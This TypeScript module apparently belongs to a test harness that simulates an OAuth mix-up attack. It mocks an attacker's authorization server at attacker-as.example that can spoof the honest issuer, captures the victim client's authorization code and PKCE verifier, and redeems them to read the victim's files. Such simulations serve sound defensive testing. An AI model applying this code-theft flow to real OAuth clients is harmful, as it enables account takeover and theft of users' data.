/**
 * The attacker's authorization server, attacker-as.example (docs/reference §5.5 and §5.6; RFC 9207, RFC
 * 8414 §3.3). Its metadata names an issuer (its own for the mix-up, the honest one when it spoofs), its
 * authorization endpoint bounces the browser to the honest server, and its token endpoint keeps the
 * honest code and the PKCE verifier a deceived client posts there. `redeemCaptured` is her next move.
 */
import { http, HttpResponse } from 'msw';
import type { RequestHandler } from 'msw';
import { endpoints } from '../servers/auth/metadata';
import { redirect } from '../servers/http';
import { asMetadataUrls } from '../world/urls';
import type { World } from '../world/world';
import type { Attacker } from './attacker';
import { readVictimFile, short } from './evidence';
import type { AttackFinding } from './types';

export function attackerAsHosts(world: World, options: { claimedIssuer: string }): RequestHandler[] {
  const { attackerIssuer, issuer, mcp } = world.urls;
  const evil = endpoints(attackerIssuer);
  return [
    http.get(asMetadataUrls(attackerIssuer)[0] ?? '', () =>
      HttpResponse.json({
        issuer: options.claimedIssuer,
        authorization_endpoint: evil.authorization_endpoint,
        token_endpoint: evil.token_endpoint,
        response_types_supported: ['code'],
        code_challenge_methods_supported: ['S256'],
        client_id_metadata_document_supported: true,
        authorization_response_iss_parameter_supported: true,
      }),
    ),
    // Bounce the browser to the honest server, for the honest resource.
    http.get(evil.authorization_endpoint, ({ request }) => {
      const honest = new URL(endpoints(issuer).authorization_endpoint);
      new URL(request.url).searchParams.forEach((v, k) =>
        honest.searchParams.set(k, k === 'resource' ? mcp : v),
      );
      return redirect(honest.href);
    }),
    // A deceived client posts the honest code and its verifier here.
    http.post(evil.token_endpoint, async ({ request }) => {
      world.attacker.tokenRequest = new URLSearchParams(await request.text());
      world.network.annotate({ mark: 'stolen' });
      return HttpResponse.json({ error: 'temporarily_unavailable' }, { status: 400 });
    }),
  ];
}

/** Redeems, at the honest server, the code and verifier the client posted to the attacker. */
export async function redeemCaptured(world: World, attacker: Attacker): Promise<AttackFinding> {
  const form = world.attacker.tokenRequest;
  if (!form) return { attackerWon: false, evidence: "The attacker's token endpoint never received a code." };
  await attacker.note(
    'Holds the honest code and verifier',
    "The victim's client sent them to the attacker's token endpoint.",
    {
      mark: 'stolen',
      values: {
        code: short(form.get('code') ?? ''),
        code_verifier: short(form.get('code_verifier') ?? ''),
      },
    },
  );
  const res = await attacker.token({
    grant_type: 'authorization_code',
    code: form.get('code') ?? '',
    code_verifier: form.get('code_verifier') ?? undefined,
    client_id: form.get('client_id') ?? '',
    redirect_uri: form.get('redirect_uri') ?? '',
    resource: world.urls.mcp,
  });
  const token = typeof res.body.access_token === 'string' ? res.body.access_token : null;
  if (!token)
    return {
      attackerWon: false,
      evidence: `Redeeming at the honest server failed: ${String(res.body.error)}.`,
    };
  return readVictimFile(world, attacker, token, {
    won: "The honest server issued the attacker a token for the victim's files.",
    lost: (call) => `The token did not work (${call.status}).`,
  });
}
